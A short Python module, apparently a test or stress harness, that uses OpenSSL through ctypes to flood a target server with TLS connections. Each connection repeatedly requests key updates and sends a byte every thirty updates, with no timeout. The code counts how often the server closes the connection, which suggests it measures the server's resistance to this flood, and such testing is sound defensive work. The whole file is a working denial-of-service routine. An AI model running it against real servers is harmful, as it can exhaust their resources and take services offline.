"""TLS connections that change their key again and again, with a byte of content after every thirty times."""

import ctypes
import time

from wire import PREFACE, connect

TLS = ctypes.CDLL("libssl.so.3")
for name in ("TLS_client_method", "SSL_CTX_new", "SSL_new"):
    getattr(TLS, name).restype = ctypes.c_void_p


def flood(target, until):
    closed = 0
    context = ctypes.c_void_p(TLS.SSL_CTX_new(ctypes.c_void_p(TLS.TLS_client_method())))
    while time.monotonic() < until:
        with connect(target.console) as peer:
            # It waits for the server, as long as the flood lasts.
            peer.settimeout(None)
            tls = ctypes.c_void_p(TLS.SSL_new(context))
            TLS.SSL_set_fd(tls, peer.fileno())
            closed += TLS.SSL_connect(tls) == 1 and change_keys(tls, until)
            TLS.SSL_free(tls)
    return closed


def change_keys(tls, until):
    """Whether the server has closed the connection before the time is up."""
    number = 0
    while time.monotonic() < until:
        number += 1
        # SSL_KEY_UPDATE_NOT_REQUESTED.
        if TLS.SSL_key_update(tls, 0) != 1 or TLS.SSL_do_handshake(tls) != 1:
            return True
        if number % 30 == 0 and TLS.SSL_write(tls, PREFACE[:1], 1) != 1:
            return True
    return False
